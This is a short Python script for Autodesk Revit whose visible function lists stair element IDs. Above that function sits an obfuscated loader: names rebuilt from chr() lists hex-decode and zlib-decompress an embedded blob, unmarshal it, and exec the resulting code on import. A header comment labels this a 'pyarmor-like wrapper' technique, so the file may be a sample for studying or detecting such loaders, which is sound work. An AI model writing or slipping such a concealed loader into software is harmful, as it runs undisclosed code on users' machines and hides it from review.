# technique: pyarmor-like wrapper - hex -> zlib -> marshal.loads code object executed via names rebuilt from chr() lists and lambdas
from Autodesk.Revit.DB import FilteredElementCollector, Stairs  # noqa: F401

_O0O = lambda l: "".join(map(chr, l))
_OO0 = _O0O([109, 97, 114, 115, 104, 97, 108])          # marshal
_0OO = _O0O([122, 108, 105, 98])                         # zlib
_O00 = _O0O([108, 111, 97, 100, 115])                    # loads
_00O = _O0O([100, 101, 99, 111, 109, 112, 114, 101, 115, 115])  # decompress
_0O0 = _O0O([101, 120, 101, 99])                          # exec

_I1I = (
    "789c7bcc800418a1f4672e20319d2185218a218531984193e91677414e62726a467e4e4a6a919f26"
    "e32dcef8f8e292c4f4d4f8f8950c9f415a7e31db54d8fde2b0c9cd4f29cd49b52b62871a57cc0724"
    "3e30333232dee0916ce004c12256a01000f9e21afa"
)

_l1l = (lambda a: lambda b: lambda c: getattr(__import__(a), b)(c))
_ll1 = _l1l(_OO0)(_O00)
_1ll = _l1l(_0OO)(_00O)

__armor__ = _ll1(_1ll(bytes.fromhex(_I1I)))
(lambda g: g[_0O0] if isinstance(g, dict) else getattr(g, _0O0))(__builtins__)(__armor__, globals())


def stair_report(doc):
    return [s.Id.IntegerValue for s in FilteredElementCollector(doc).OfClass(Stairs)]
